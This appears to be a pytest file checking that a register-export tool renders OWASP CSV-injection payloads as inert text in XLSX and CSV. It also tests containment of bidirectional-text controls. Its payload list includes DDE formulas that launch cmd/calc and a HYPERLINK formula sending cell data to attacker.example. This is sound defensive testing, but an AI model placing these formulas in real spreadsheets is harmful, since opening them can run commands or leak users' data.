"""Spreadsheet safety: OWASP CSV-injection payloads through every text field stay inert text."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from catalog.app.export import ExportFormat, ExportKind, render_export
from catalog.compliance.model import CheckReport
from catalog.domain.register import Register
from catalog.exporters.csv_writer import render_csv
from catalog.exporters.headings import ColumnSpec
from catalog.exporters.rows import Table
from catalog.exporters.xlsx import render_xlsx
from catalog.kernel.lang import Lang
from catalog.kernel.textsafety import contain_bidi, is_formula_like, neutralise
from tests.exporters.conftest import AS_OF, build_seed_report

# OWASP "CSV Injection" examples and the variants the issue names (tab, CR, array formula).
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1",
    "{=1+1}",
    "＝1+1",
    "\t=1+1",
    "\r=1+1",
]

# Fields whose values are keys, codes, enum values or dates: the model would reject a payload there.
STRUCTURED = {
    "key", "parent", "role", "kind", "basis", "art9_condition", "country", "established_in",
    "processing_locations", "hosting", "locations", "data_categories", "data_subjects", "systems",
    "recipients", "operator", "processor", "to", "status", "trigger", "minimum", "maximum", "instrument",
    "module", "derogation", "outcome", "service_category", "programme", "assessed_on", "signed_on",
    "valid_from", "valid_until", "certified_from", "certified_until", "completed_on",
    "organisation_kind", "excluded_kinds", "dpf_scope",  # issue #14
    "field", "value",  # issue #29: provenance names a field (and a value); its note and source are text
}  # fmt: skip


def whole_field_readings(value: Any) -> Any:
    """The register's data with each reading of one value of a text field (which injection rewrites) made a
    reading of the whole field, so the rewritten register still validates."""
    if isinstance(value, dict):
        if "field" in value and "basis" in value and value.get("field") not in STRUCTURED:
            return {**value, "value": None}
        return {k: whole_field_readings(v) for k, v in value.items()}
    if isinstance(value, list):
        return [whole_field_readings(item) for item in value]
    return value


def _inject(value: Any, counter: list[int], field: str | None = None) -> Any:
    if isinstance(value, dict):
        return {k: v if k in STRUCTURED else _inject(v, counter, k) for k, v in value.items()}
    if isinstance(value, list):
        return [_inject(item, counter, field) for item in value]
    if isinstance(value, str):
        counter[0] += 1
        return PAYLOADS[counter[0] % len(PAYLOADS)]
    return value


def injected_register(seed: Register) -> Register:
    data = seed.model_dump(mode="json")
    for activity in data["activities"]:
        activity.update(
            business_function="x",
            joint_controllers=["x"],
            automated_decision_making="x",
            dpia={"status": "completed", "reference": "x"},
            security_measures=["x"],
        )
        activity["legal_bases"] = [{"basis": "6(1)(f)", "justification": "x", "legitimate_interest": "x"}]
        activity["retention"] = {"kind": "undetermined", "criteria": "x", "note": "x"}
    for processor in data["processors"]:
        processor["dpa"] = {"reference": "x"}
    address = {"street": "x", "city": "x", "country": "NO"}
    data["organisation"]["contacts"] = [
        {"role": role, "name": "x", "email": "x", "phone": "x", "address": address}
        for role in ("privacy_contact", "dpo", "eu_representative")
    ]
    return Register.model_validate(_inject(whole_field_readings(data), [0]))


@pytest.fixture(scope="module")
def injected(seed_register: Register) -> tuple[Register, CheckReport]:
    register = injected_register(seed_register)
    report = build_seed_report(register)
    counter = [0]
    hops = [
        hop.model_copy(update={"status_reason": _inject("x", counter), "finding_ids": [_inject("x", counter)]})
        for hop in report.transfers
    ]
    findings = [
        f.model_copy(update={"message": _inject("x", counter), "rule": _inject("x", counter)}) for f in report.findings
    ]
    return register, CheckReport(as_of=AS_OF, transfers=hops, findings=findings)


def test_the_injected_register_really_carries_payloads(injected) -> None:
    register, _ = injected
    assert register.organisation.name in [p.strip() for p in PAYLOADS]
    assert all(a.name.strip() in [p.strip() for p in PAYLOADS] for a in register.activities)


TABLE_KINDS = [k for k in ExportKind if k != ExportKind.REPORT]


@pytest.mark.parametrize("lang", list(Lang))
@pytest.mark.parametrize("kind", list(ExportKind))
def test_xlsx_holds_no_formula_and_the_payloads_as_text(injected, kind: ExportKind, lang: Lang) -> None:
    register, report = injected
    data = render_export(kind, ExportFormat.XLSX, register, report, lang)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            xml = archive.read(name).decode("utf-8")
            assert not re.search(r"<f[ >/]", xml), f"{name} holds a formula element"
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    seen: set[str] = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    seen.update(p for p in PAYLOADS if p.strip() in cell.value)
    assert len(seen) >= (1 if kind == ExportKind.SUBPROCESSORS else 5), "payloads did not reach the workbook"


@pytest.mark.parametrize("lang", list(Lang))
@pytest.mark.parametrize("kind", TABLE_KINDS)
def test_csv_cells_are_neutralised(injected, kind: ExportKind, lang: Lang) -> None:
    register, report = injected
    text = render_export(kind, ExportFormat.CSV, register, report, lang).decode("utf-8")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not [cell for cell in cells if is_formula_like(cell)]
    if kind != ExportKind.SUBPROCESSORS or lang == Lang.EN:
        assert any(cell.startswith("'") and is_formula_like(cell[1:]) for cell in cells)


def _mixed_table() -> Table:
    columns = tuple(ColumnSpec(f"c{i}", f"Column {i}", 10) for i in range(7))
    row = (-5, 3.5, "-5", "\t=1+1", "\r=1+1", ("=1+1", "second line"), "plain")
    return Table("test", Lang.EN, AS_OF, "Mixed", "test", "Mixed", columns, (row,))


def test_numbers_stay_numbers_and_text_stays_text() -> None:
    table = _mixed_table()
    sheet = openpyxl.load_workbook(io.BytesIO(render_xlsx([table]))).active
    values = [cell.value for cell in sheet[4]]  # title, note, blank, headings on 3 -> data on 4
    # A carriage return is stored as the spreadsheet line break (LF).
    assert values == [-5, 3.5, "-5", "\t=1+1", "\n=1+1", "=1+1\nsecond line", "plain"]
    assert [cell.data_type for cell in sheet[4]] == ["n", "n", "s", "s", "s", "s", "s"]
    rows = list(csv.reader(io.StringIO(render_csv(table).decode("utf-8"), newline="")))
    assert rows[1] == ["-5", "3.5", "'-5", "'\t=1+1", "'\r=1+1", "'=1+1\nsecond line", "plain"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_covers_every_trigger(payload: str) -> None:
    assert is_formula_like(payload)
    assert neutralise(payload) == "'" + payload
    assert neutralise("Verji Tech AS") == "Verji Tech AS"


def test_libreoffice_reads_the_payloads_as_text(tmp_path: Path) -> None:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed; this cross-check is optional")
    table = _mixed_table()
    source = tmp_path / "mixed.xlsx"
    source.write_bytes(render_xlsx([table]))
    subprocess.run(
        [soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", "--convert-to", "csv",
         "--outdir", str(tmp_path), str(source)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    rows = list(csv.reader(io.StringIO((tmp_path / "mixed.csv").read_text(encoding="utf-8"), newline="")))
    data = rows[3]
    assert data[0] == "-5" and data[2] == "-5"
    assert data[3].strip() == "=1+1" and data[5].startswith("=1+1")  # not evaluated to 2


@pytest.mark.parametrize(
    ("text", "contained"),
    [
        ("plain name", "plain name"),
        ("\u202eabc\u202c done", "\u202eabc\u202c done"),  # already closed: unchanged
        ("Invoice \u202efdp.exe", "Invoice \u202efdp.exe\u202c"),
        ("\u2067\u202bx", "\u2067\u202bx\u202c\u2069"),  # closed innermost first
        ("\u2069\u202cx", "x"),  # nothing of its own to close: dropped
        ("\u2068\u202ex\u2069y\u202c", "\u2068\u202ex\u2069y"),  # the PDI closed the RLO inside its isolate
        ("a\u202e\nb\u202e", "a\u202e\u202c\nb\u202e\u202c"),  # a line break ends a paragraph and its controls
    ],
)
def test_contain_bidi_closes_a_values_direction_controls_where_it_ends(text: str, contained: str) -> None:
    assert contain_bidi(text) == contained
